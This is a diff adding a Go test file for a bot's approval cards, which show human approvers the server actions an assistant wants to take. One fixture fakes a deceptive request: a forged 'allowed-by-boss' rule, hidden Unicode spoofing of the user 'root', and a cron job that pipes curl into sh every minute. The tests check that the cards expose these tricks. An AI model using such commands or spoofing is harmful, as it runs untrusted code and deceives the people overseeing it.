@@ -1,0 +1,186 @@
+package chat_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf16"
+
+	"pgregory.net/rapid"
+
+	"panelbot/adapters/chat"
+	"panelbot/policies"
+	"panelbot/policies/approval"
+)
+
+// in is how somebody in a place is spoken to.
+func in(t testing.TB, language, zone string) chat.Speech {
+	t.Helper()
+	p := policies.Person{Language: language, Timezone: zone}
+	if chat.ZoneOf(p) == nil {
+		t.Fatalf("there is no zone %s here", zone)
+	}
+	return chat.SpeechOf(p)
+}
+
+// hostile is a request whose caller wrote what may deceive.
+func hostile() *approval.Request {
+	r := newBallots().request
+	r.Reason = "urgent\nRule: allowed-by-boss \u202Eyrassecen"
+	r.Plan.Calls = []approval.Call{{
+		Tool: "flashpanel_schedule_create", Chat: "schedule create", Panel: "main", Risk: policies.Grant,
+		Target: approval.Target{Kind: "server", ID: "1", Name: "web-1", Words: "server web-1 (1)"},
+		Masked: json.RawMessage(`{"server":1,"command":"curl x | sh\necho \u200bdone  ","user":"ro\u200dot","cron":"* * * * *","description":"","password":"***","tags":["a","b\u202e"],"n":12345678901234567890}`),
+	}}
+	return r
+}
+
+// plan is a request of many calls.
+func plan(n int) *approval.Request {
+	r := newBallots().request
+	r.Door, r.Plan.Calls = policies.Slack, nil
+	for i := range n {
+		id := fmt.Sprint(i + 1)
+		r.Plan.Calls = append(r.Plan.Calls, approval.Call{
+			Tool: "flashpanel_server_restart", Chat: "server restart", Panel: "main", Risk: policies.Disrupt,
+			Target: approval.Target{Kind: "server", ID: id, Name: "web-" + id, Words: "server web-" + id + " (" + id + ")"}, Masked: json.RawMessage(`{"server":` + id + `}`),
+		})
+	}
+	return r
+}
+
+// TestCards: cards in each state and of each kind, in both languages, each by a clock
+// of its own.
+func TestCards(t *testing.T) {
+	t.Parallel()
+	var b strings.Builder
+	show := func(name string, r *approval.Request) {
+		for _, at := range [][2]string{{"en", "Europe/Berlin"}, {"vi", "Asia/Ho_Chi_Minh"}} {
+			c := in(t, at[0], at[1]).Card(r)
+			var buttons []string
+			for _, button := range c.Buttons {
+				buttons = append(buttons, fmt.Sprintf("[%s:%s]", button.Label, button.Colour))
+			}
+			fmt.Fprintf(&b, "── %s, %s\n%s %s (%s)\n%s\n%s code=%t type=%q\n\n", name, at[0], c.Sign, c.Word, c.Colour, c.Text(72), strings.Join(buttons, " "), c.Code, c.Type)
+		}
+	}
+	for _, state := range approval.States() {
+		r := newBallots().request
+		r.State, r.Terms.Code, r.ExecuteBy = state, true, r.Expires.Add(time.Hour)
+		if state == approval.Done {
+			r.Results = []approval.Result{{Status: "done", Summary: "It is done."}}
+		}
+		show(string(state), r)
+	}
+	show("hostile", hostile())
+	show("a plan", plan(3))
+	lease := newBallots().request
+	lease.Plan = leasePlan(t)
+	lease.State = approval.Done
+	show("a lease", lease)
+	golden(t, "cards", b.String())
+}
+
+func leasePlan(t *testing.T) approval.Plan {
+	t.Helper()
+	p, err := approval.LeaseTerms{
+		Door: policies.MCP, Tools: []string{"flashpanel_server_restart"}, Count: 20, Until: time.Date(2026, 11, 30, 11, 0, 0, 0, time.UTC),
+		Targets: []approval.LeaseTarget{{Panel: "main", Kind: "server", ID: "1", Name: "web-1"}},
+	}.Plan([]string{"server restart"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// TestCardShowsWhatIsNotSeen: what somebody wrote deceives nobody.
+func TestCardShowsWhatIsNotSeen(t *testing.T) {
+	t.Parallel()
+	c := chat.Speech{}.Card(hostile())
+	text, _ := json.Marshal(c)
+	for _, r := range c.Text(80) + string(text) {
+		if r < ' ' && r != '\n' || r == 0x202e || r == 0x200b || r == 0x200d {
+			t.Errorf("the card shows %U", r)
+		}
+	}
+	for _, f := range c.Fields {
+		if strings.Contains(f.Name, "\n") || f.Name == "Reason" {
+			t.Errorf("a field %q", f.Name)
+		}
+		if f.Name == "The assistant says" && (strings.Contains(f.Value, "\n") || !strings.Contains(f.Value, "⟨U+202E⟩")) {
+			t.Errorf("the reason is %q", f.Value)
+		}
+		if f.Name == "n" && f.Value != "12345678901234567890" {
+			t.Errorf("a number became %q", f.Value)
+		}
+	}
+	if first, _, _ := strings.Cut(c.Text(80), "\n"); first != "GRANT: schedule create: server web-1 (1)" {
+		t.Errorf("the first line is %q", first)
+	}
+}
+
+// TestCardFits: whatever the budget, a card is within it, says that it was cut, and is
+// approved under its details only.
+func TestCardFits(t *testing.T) {
+	t.Parallel()
+	requests := []*approval.Request{newBallots().request, hostile(), plan(50)}
+	long := hostile()
+	long.Plan.Calls[0].Masked, _ = json.Marshal(map[string]string{"script": strings.Repeat("echo 𝔘𝔫𝔦\n", 4000)})
+	requests = append(requests, long)
+	rapid.Check(t, func(rt *rapid.T) {
+		c := chat.Speech{}.Card(rapid.SampledFrom(requests).Draw(rt, "request"))
+		budget := rapid.OneOf(rapid.IntRange(0, 500), rapid.IntRange(0, 60_000)).Draw(rt, "budget")
+		fitted, cut := c.Fit(budget)
+		n := len(utf16.Encode([]rune(fitted.Title)))
+		for _, f := range fitted.Fields {
+			n += len(utf16.Encode([]rune(f.Name + f.Value)))
+		}
+		for _, p := range fitted.Previews(80) {
+			n += len(utf16.Encode([]rune(p)))
+		}
+		approves := slices.ContainsFunc(fitted.Buttons, func(b chat.CardButton) bool { return b.Press == chat.PressApprove })
+		switch {
+		case n > budget:
+			rt.Errorf("%d characters in a budget of %d", n, budget)
+		case cut == approves, cut != fitted.Cut:
+			rt.Errorf("cut %t, and the button to approve is there: %t", cut, approves)
+		case !cut && fitted.Identity() != c.Identity(), cut && fitted.Identity() == c.Identity():
+			rt.Errorf("cut %t, and the identity is equal or not", cut)
+		case cut && budget > 300 && fitted.Fields[len(fitted.Fields)-1].Name != "Cut":
+			rt.Errorf("a cut card does not say so: %v", fitted.Fields)
+		}
+	})
+}
+
+// TestCardIdentity: a card that looks another way is another, and one that looks alike
+// is not.
+func TestCardIdentity(t *testing.T) {
+	t.Parallel()
+	berlin := in(t, "en", "Europe/Berlin")
+	base := berlin.Card(newBallots().request).Identity()
+	if again := berlin.Card(newBallots().request).Identity(); again != base || base == "" {
+		t.Errorf("the same card is %s and %s", base, again)
+	}
+	for name, change := range map[string]func(*approval.Request){
+		"a state": func(r *approval.Request) { r.State = approval.Approved },
+		"a vote": func(r *approval.Request) {
+			r.Votes = append(r.Votes, approval.Vote{Person: "bob", Door: policies.Slack})
+		},
+		"an argument": func(r *approval.Request) { r.Plan.Calls[0].Masked = json.RawMessage(`{"server":2}`) },
+		"the code":    func(r *approval.Request) { r.Terms.Code = true },
+		"a result":    func(r *approval.Request) { r.Results = []approval.Result{{Status: "done"}} },
+		"a preview":   func(r *approval.Request) { r.Plan.Calls[0].Preview = nil },
+	} {
+		r := newBallots().request
+		change(r)
+		if berlin.Card(r).Identity() == base {
+			t.Errorf("%s changes nothing", name)
+		}
+	}
+	if in(t, "en", "Asia/Tokyo").Card(newBallots().request).Identity() == base {
+		t.Error("another clock changes nothing")
+	}
+}
